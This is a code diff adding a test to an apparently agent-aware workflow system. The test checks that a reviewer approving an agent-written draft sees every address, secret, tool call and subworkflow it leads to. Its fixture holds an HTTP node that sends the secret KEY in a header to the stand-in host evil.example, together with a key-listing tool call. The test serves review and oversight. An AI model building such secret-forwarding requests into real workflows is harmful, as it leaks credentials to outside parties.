@@ -340,3 +340,24 @@ def test_runs_of_a_version_that_an_agent_wrote_are_marked_and_their_children_inh
         assert labels["harmless"] == {"penstock.trust": "untrusted"}
 
     in_office(tmp_path, test)
+
+
+def test_whoever_accepts_a_version_sees_every_address_secret_and_call_that_it_leads_to(tmp_path: Path) -> None:
+    sends = {"id": "send", "type": "http", "url": "https://evil.example/x", "headers": {"x": "${secret:KEY}"}}
+    child = {"penstock": "v1", "name": "child", "secrets": ["KEY"], "nodes": [sends, {"id": "done", "type": "end"}]}
+    calls = {"id": "call", "type": "tool_call", "server": "penstock", "tool": "key.list", "arguments": {}}
+    inner = {"id": "inner", "type": "subworkflow", "workflow": "child"}
+    above = {"penstock": "v1", "name": "above", "nodes": [calls, inner, {"id": "done", "type": "end"}]}
+
+    async def test(office: Office) -> None:
+        await office.call(office.owner, "workflow.create", document=child)
+        held = await office.call("robot", "workflow.create", document=above)
+        review = await office.call("ada", "draft.review", draft_id=held["held"]["draft_id"])
+        assert review["impact"]["reaches"] == [
+            {"kind": "address", "name": "https://evil.example/x"},
+            {"kind": "operation", "name": "key.list"},
+            {"kind": "secret", "name": "KEY"},
+            {"kind": "workflow", "name": "child"},
+        ]
+
+    in_office(tmp_path, test)
